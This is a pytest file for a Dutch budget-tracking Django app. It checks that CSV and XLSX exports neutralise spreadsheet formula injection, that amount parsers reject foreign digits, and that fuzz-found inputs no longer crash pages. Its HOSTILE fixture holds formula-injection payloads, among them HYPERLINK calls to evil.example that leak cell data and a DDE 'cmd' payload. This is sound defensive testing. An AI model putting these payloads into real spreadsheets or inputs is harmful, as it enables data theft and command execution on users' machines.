"""Hostile input: text that a spreadsheet would run as a formula, digits that only look
like ours, and the input that made pages fail with HTTP 500. Each gets a clear Dutch
message at the field (or is written harmlessly) and changes nothing."""

import csv
import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from measures.models import (
    Assessment,
    Goal,
    Measure,
    MeasurePlan,
    MeasureUpdate,
    Programme,
    ReportingPeriod,
    SavingsTask,
    StatusLevel,
    TargetRevision,
    YearTarget,
)
from measures.money import AmountError, parse_amount
from measures.overview import Amount
from tests.conftest import make_user
from tests.imports.conftest import csv_bytes, upload
from tests.test_admin import measure_form, post_measure
from tests.workflow import form_data, open_period, update_of

# What a spreadsheet runs as a formula when a cell starts with it (OWASP, ASVS 1.2.10).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
# The only formulas the exports write themselves: sums over their own cells.
OWN_FORMULA = re.compile(r"=SUM(IF)?\([A-Z$0-9:,]+\)")
# A CSV holds amounts as text too: whole euros, negative where they count against.
CSV_NUMBER = re.compile(r"-?[0-9]+")

HOSTILE = {
    "programme": '=HYPERLINK("https://evil.example/?d="&A3,"Programma Zorg")',
    "municipality": "+Almelo+1",
    "period": "@SUM(1+1)",
    "plan": "-2+3 Maatregelenplan",
    "decision": "=1+1",
    "goal": '=HYPERLINK("https://evil.example","doel")',
    "title": "=cmd|' /C calc'!A0",
    "owner_username": "-1+1",
    "owner_first_name": "=Jan",
    "owner_last_name": "+Jansen",
    "explanation": "\t=1+1 toelichting",
    "status_label": "=Ja",
    "status_description": "@op koers",
}


@pytest.fixture
def hostile_programme(almelo):
    """The demo's open period, with a formula in every text that can reach an export."""
    period = open_period()
    Programme.objects.filter(pk=almelo.pk).update(name=HOSTILE["programme"])
    ReportingPeriod.objects.filter(pk=period.pk).update(name=HOSTILE["period"])
    MeasurePlan.objects.filter(name="Maatregelenplan 1").update(
        name=HOSTILE["plan"], decision_reference=HOSTILE["decision"]
    )
    Goal.objects.filter(programme=almelo, number=1).update(title=HOSTILE["goal"])
    measure = Measure.objects.get(title="Doorbraakmethode")
    owner = make_user(
        HOSTILE["owner_username"],
        first_name=HOSTILE["owner_first_name"],
        last_name=HOSTILE["owner_last_name"],
    )
    Measure.objects.filter(pk=measure.pk).update(
        title=HOSTILE["title"], owner=owner, goal=Goal.objects.get(programme=almelo, number=1)
    )
    Assessment.objects.filter(measure=measure, period=period).update(
        explanation=HOSTILE["explanation"]
    )
    level = Assessment.objects.get(measure=measure, period=period).status
    StatusLevel.objects.filter(pk=level.pk).update(
        label=HOSTILE["status_label"], description=HOSTILE["status_description"]
    )
    return ReportingPeriod.objects.select_related("programme__organisation").get(pk=period.pk)


def export_files(client, period) -> dict[str, bytes]:
    overview = reverse("overview")
    measures = reverse("imports:measures_export")
    files = {
        "overview.csv": client.get(overview, {"periode": period.pk, "_export": "csv"}),
        "overview.xlsx": client.get(overview, {"periode": period.pk, "_export": "xlsx"}),
        "measures.csv": client.get(measures, {"periode": period.pk, "formaat": "csv"}),
        "measures.xlsx": client.get(measures, {"periode": period.pk}),
        "template.xlsx": client.get(reverse("imports:template", args=[period.programme_id])),
    }
    for name, response in files.items():
        assert response.status_code == 200, name
    return {name: response.content for name, response in files.items()}


def text_cells(name: str, content: bytes) -> list[tuple[str, str, str]]:
    """(place, value, kind) of every text cell; kind "f" for a formula."""
    if name.endswith(".csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
        return [
            (f"{name} {r}:{c}", value, "s")
            for r, row in enumerate(rows, start=1)
            for c, value in enumerate(row, start=1)
            if value and not CSV_NUMBER.fullmatch(value)
        ]
    workbook = load_workbook(io.BytesIO(content))
    return [
        (f"{name} {sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_every_text_cell_of_every_export_is_neutralised(hostile_programme, controller_client):
    cells = [
        cell
        for name, content in export_files(controller_client, hostile_programme).items()
        for cell in text_cells(name, content)
    ]
    live = [
        (place, value)
        for place, value, kind in cells
        if (kind == "f" and not OWN_FORMULA.fullmatch(value))
        or (kind != "f" and value != "-" and value.startswith(FORMULA_TRIGGERS))
    ]
    assert live == []
    shown = [value for _place, value, _kind in cells]
    for field in (
        "programme",
        "plan",
        "decision",
        "title",
        "owner_username",
        "explanation",
        "status_label",
    ):
        assert any(value.startswith("'" + HOSTILE[field]) for value in shown), field


def test_titles_are_neutralised_in_a1_and_the_first_csv_row(hostile_programme, controller_client):
    files = export_files(controller_client, hostile_programme)
    title = "'" + HOSTILE["programme"] + ": " + HOSTILE["period"]
    for name in ("overview.xlsx", "measures.xlsx"):
        sheet = load_workbook(io.BytesIO(files[name]))["Op koers"]
        # The overview sheet names its series after the title: "… · Taakstelling maatregelen".
        assert sheet["A1"].value.startswith(title) and sheet["A1"].data_type == "s", name
    first = next(csv.reader(io.StringIO(files["measures.csv"].decode("utf-8-sig")), delimiter=";"))
    assert first == [title]


# Amounts: one parser for the update form, the admin and the import.


@pytest.mark.parametrize(
    ("typed", "thousands", "euros"),
    [
        ("1.580.000", False, 1_580_000),
        ("1580000", False, 1_580_000),
        ("-20.641", False, -20_641),
        ("€ 1.580.000", False, 1_580_000),
        ("€ -82", False, -82),
        ("1.580.000,00", False, 1_580_000),
        ("1.580.000,-", False, 1_580_000),
        (" 1.580 ", True, 1_580_000),
        ("82,5", True, 82_500),
        ("-82", True, -82_000),
        ("0", False, 0),
    ],
)
def test_the_amount_parser_reads_dutch_amounts(typed, thousands, euros):
    assert parse_amount(typed, in_thousands=thousands) == Amount(euros)


@pytest.mark.parametrize("typed", ["PM", "pm", "P.M.", " PM "])
def test_the_amount_parser_reads_pm(typed):
    assert parse_amount(typed) == Amount.pm()


@pytest.mark.parametrize(
    "typed",
    [
        "١٢٣",  # Arabic-Indic digits
        "１２３",  # fullwidth digits
        "١.٥٨٠",
        "۱۲۳",  # extended Arabic-Indic
        "--5",
        "- -5",
        "-€ -5",
        "+5",
        "5-",
        "1,5",
        "1.58",
        "12.3456",
        "1e6",
        "1_000",
        "0x10",
        "12\n3",
        "1.580,50",
        "abc",
        "-",
        "€",
        "PM5",
    ],
)
def test_the_amount_parser_refuses_anything_else_with_a_dutch_message(typed):
    with pytest.raises(AmountError) as refused:
        parse_amount(typed)
    assert refused.value.message == "Vul een bedrag in hele euro's in, zoals 1.580.000, of PM."


def test_the_amount_parser_says_when_an_amount_is_absurd_or_pm_is_not_allowed():
    with pytest.raises(AmountError, match="onwaarschijnlijk groot"):
        parse_amount("9" * 5000)
    with pytest.raises(AmountError, match="onwaarschijnlijk groot"):
        parse_amount("1.000.000.001", in_thousands=True)
    with pytest.raises(AmountError, match="PM is hier niet mogelijk"):
        parse_amount("PM", allow_pm=False)


@pytest.fixture
def owner_client(client, almelo, django_user_model):
    client.force_login(django_user_model.objects.get(username="invoerder"))
    return client


@pytest.mark.parametrize("typed", ["١٢٣", "１２３", "--5"])
def test_the_update_form_refuses_foreign_digits_and_saves_nothing(owner_client, typed):
    update = update_of("Stoppen met dienstencheques")
    data = form_data(update, forecast_2021=typed, explanation="gewijzigd", save="1")
    response = owner_client.post(reverse("update_form", args=[update.pk]), data)
    assert response.status_code == 200
    assert response.context["form"].errors["forecast_2021"] == [
        "Vul een bedrag in hele euro's in, zoals 1.580.000, of PM."
    ]
    update.refresh_from_db()
    assert update.explanation != "gewijzigd" and update.version == 1


@pytest.mark.parametrize("typed", ["١٢٣", "１２３", "--5"])
def test_the_admin_refuses_foreign_digits_in_a_target(controller_client, almelo, typed):
    plan = MeasurePlan.objects.get(name="Maatregelenplan 2")
    before = Measure.objects.count(), YearTarget.objects.count()
    response = post_measure(controller_client, measure_form(plan, targets=[(2021, typed)]))
    assert response.status_code == 200
    errors = response.context["inline_admin_formsets"][0].formset.errors
    assert errors[0]["amount"] == ["Vul een bedrag in hele euro's in, zoals 1.580.000, of PM."]
    assert (Measure.objects.count(), YearTarget.objects.count()) == before


@pytest.mark.parametrize("typed", ["١٢٣", "１２３", "--5", "- 5"])
def test_the_import_refuses_foreign_digits_and_double_signs(almelo, controller_client, typed):
    rows = [
        ["Eenheid bedragen:", "x € 1.000"],
        ["Maatregelenplan", "Volgnr", "Titel", "2021"],
        ["Maatregelenplan 2", "9", "Nieuwe maatregel", typed],
    ]
    before = Measure.objects.count()
    response = upload(controller_client, csv_bytes(rows), programme=almelo, name="m.csv")
    assert response.status_code == 200
    page = response.content.decode()
    assert f"“{typed}” is geen bedrag." in page
    assert "Vul een bedrag in duizenden euro&#x27;s in" in page
    assert Measure.objects.count() == before


# Measure numbers: ASCII digits and dots, checked by the model so every path gets it.


@pytest.mark.parametrize("number", ["٦", "６", "6\n", "6.١", "6.1\n", " 6"])
def test_a_measure_number_is_ascii_digits_and_dots(almelo, number):
    measure = Measure(programme=almelo, number=number, title="Nieuw")
    with pytest.raises(ValidationError) as refused:
        measure.full_clean()
    assert refused.value.message_dict["number"] == [
        "Een volgnummer bestaat uit cijfers, eventueel met punten: 6 of 6.1."
    ]


@pytest.mark.parametrize("number", ["٦", "６"])
def test_the_admin_and_the_import_refuse_foreign_digits_in_a_number(
    almelo, controller_client, number
):
    plan = MeasurePlan.objects.get(name="Maatregelenplan 2")
    before = Measure.objects.count()
    response = post_measure(controller_client, measure_form(plan, number=number))
    assert response.status_code == 200
    assert "Een volgnummer bestaat uit cijfers" in response.content.decode()
    rows = [
        ["Eenheid bedragen:", "x € 1.000"],
        ["Maatregelenplan", "Volgnr", "Titel", "2021"],
        ["Maatregelenplan 2", number, "Nieuwe maatregel", "10"],
    ]
    response = upload(controller_client, csv_bytes(rows), programme=almelo, name="m.csv")
    assert "Een volgnummer bestaat uit cijfers" in response.content.decode()
    assert Measure.objects.count() == before


# The HTTP 500s the fuzzing found (tests/test_fuzz.py keeps looking for more).


def test_a_long_revision_reason_is_kept_whole_and_the_history_stays_within_its_field(
    almelo, controller_client
):
    target = YearTarget.objects.get(measure__title="Dagstructurering", year=2022)
    reason = "De raad heeft bij amendement besloten deze taakstelling te verlagen; " * 3
    response = controller_client.post(
        reverse("revise_target", args=[almelo.pk]),
        {
            "target": f"target-{target.pk}",
            "new_amount": "400.000",
            "reason": reason,
            "decision_reference": "BW-7421",
            "decided_on": "2020-11-10",
        },
    )
    assert response.status_code == 302
    assert TargetRevision.objects.get(year_target=target).reason == reason.strip()
    change = target.history.latest()
    limit = type(change)._meta.get_field("history_change_reason").max_length
    assert change.history_change_reason.startswith("BW-7421: De raad heeft")
    assert len(change.history_change_reason) <= limit


def test_a_measure_with_targets_but_no_programme_is_refused_at_the_field(almelo, controller_client):
    plan = MeasurePlan.objects.get(name="Maatregelenplan 2")
    before = Measure.objects.count(), YearTarget.objects.count()
    data = {**measure_form(plan, targets=[(2021, "1.000")]), "programme": "", "plan": ""}
    controller_client.raise_request_exception = False
    response = post_measure(controller_client, data)
    assert response.status_code == 200
    assert "programme" in response.context["adminform"].form.errors
    assert (Measure.objects.count(), YearTarget.objects.count()) == before


@pytest.mark.parametrize(
    "wrong",
    [
        {"goal": " "},
        {"owner": "abc"},
        {"owner": "9" * 30},
        {"delegates": ["1", "x"]},
        {"replaces": ["١"]},
        {"replaces": ["9" * 30]},
    ],
)
def test_a_related_field_that_is_no_id_is_refused_at_the_field(almelo, controller_client, wrong):
    plan = MeasurePlan.objects.get(name="Maatregelenplan 2")
    before = Measure.objects.count()
    controller_client.raise_request_exception = False
    response = post_measure(controller_client, {**measure_form(plan), **wrong})
    assert response.status_code == 200
    assert set(wrong) <= set(response.context["adminform"].form.errors)
    assert Measure.objects.count() == before


@pytest.mark.parametrize(
    "query",
    [
        {"__year": "2147483648"},
        {"__year": "9999"},
        {"__year": "9999", "__month": "12"},
        {"__year": "2020", "__month": "2", "__day": "30"},
    ],
)
@pytest.mark.parametrize(
    ("page", "field"),
    [
        ("admin:measures_reportingperiod_changelist", "reference_date"),
        ("admin:imports_importrecord_changelist", "created_at"),
    ],
)
def test_a_date_that_cannot_exist_in_the_date_hierarchy_goes_back_to_the_list(
    almelo, controller_client, page, field, query
):
    controller_client.raise_request_exception = False
    response = controller_client.get(reverse(page), {field + k: v for k, v in query.items()})
    assert response.status_code == 302 and response["Location"].endswith("?e=1")


def test_approving_an_id_that_no_update_can_have_is_no_error(almelo, controller_client):
    for value in ("9" * 30, "٣", "-1", "1e3"):
        response = controller_client.post(reverse("approvals"), {"update": [value]})
        assert response.status_code == 302


def admin_change_data(client, url: str) -> dict:
    """The admin change form as the browser posts it back, inlines included."""
    page = client.get(url)
    data = {}
    for form in [page.context["adminform"].form] + [
        inline_form
        for inline in page.context["inline_admin_formsets"]
        for inline_form in [inline.formset.management_form, *inline.formset.forms]
    ]:
        for name in form.fields:
            value = form[name].value()
            if isinstance(value, bool):
                if value:
                    data[form.add_prefix(name)] = "on"
            elif isinstance(value, list):
                data[form.add_prefix(name)] = [str(v) for v in value]
            else:
                data[form.add_prefix(name)] = "" if value is None else str(value)
    return data


def test_swapping_two_savings_task_years_is_refused_at_the_field(almelo, controller_client):
    url = reverse("admin:measures_programme_change", args=[almelo.pk])
    data = admin_change_data(controller_client, url)
    first, second = "savings_tasks-0-year", "savings_tasks-1-year"
    data[first], data[second] = data[second], data[first]
    before = list(SavingsTask.objects.filter(programme=almelo).values_list("year", "amount"))
    controller_client.raise_request_exception = False
    response = controller_client.post(url, data)
    assert response.status_code == 200
    formset = next(
        inline.formset
        for inline in response.context["inline_admin_formsets"]
        if inline.formset.prefix == "savings_tasks"
    )
    assert "staat nu nog bij een andere regel" in str(formset.errors[0]["year"])
    assert list(SavingsTask.objects.filter(programme=almelo).values_list("year", "amount")) == (
        before
    )


def test_swapping_two_target_years_of_a_measure_is_refused_at_the_field(almelo, controller_client):
    measure = Measure.objects.get(title="Dagstructurering")
    url = reverse("admin:measures_measure_change", args=[measure.pk])
    data = admin_change_data(controller_client, url)
    first, second = "targets-0-year", "targets-1-year"
    data[first], data[second] = data[second], data[first]
    before = list(measure.targets.values_list("year", "amount", "is_pm"))
    controller_client.raise_request_exception = False
    response = controller_client.post(url, data)
    assert response.status_code == 200
    assert "staat nu nog bij een andere regel" in response.content.decode()
    assert list(measure.targets.values_list("year", "amount", "is_pm")) == before


def test_an_unknown_status_in_the_measure_list_is_no_error(almelo, controller_client):
    controller_client.raise_request_exception = False
    admin_list = reverse("admin:measures_measure_changelist")
    response = controller_client.get(admin_list, {"status": "abc"})
    assert response.status_code == 302 and response["Location"].endswith("?e=1")
    for value in ("abc", "999999", "1.5", "\x00"):
        assert controller_client.get(reverse("overview"), {"status": value}).status_code == 200


def test_an_unchanged_update_still_saves(owner_client):
    """The guard against foreign digits leaves the ordinary form alone."""
    update = update_of("Stoppen met dienstencheques")
    response = owner_client.post(
        reverse("update_form", args=[update.pk]), form_data(update, save="1")
    )
    assert response.status_code == 302
    assert MeasureUpdate.objects.get(pk=update.pk).version == 2


@pytest.mark.parametrize("value", ["²", "٣", "abc", "9" * 30])
def test_an_id_that_is_no_ascii_number_is_not_found_not_an_error(almelo, controller_client, value):
    """One rule (measures.keys.can_be_key) for ids from a request: the measures export's
    period and the admin's history pages answer 404, never HTTP 500."""
    from measures.models import Assessment

    assessment = Assessment.objects.first()
    urls = [
        f"{reverse('imports:measures_export')}?periode={value}",
        f"/beheer/measures/assessment/{value}/history/",
        f"/beheer/measures/assessment/{assessment.pk}/history/{value}/",
    ]
    for url in urls:
        assert controller_client.get(url).status_code == 404, url
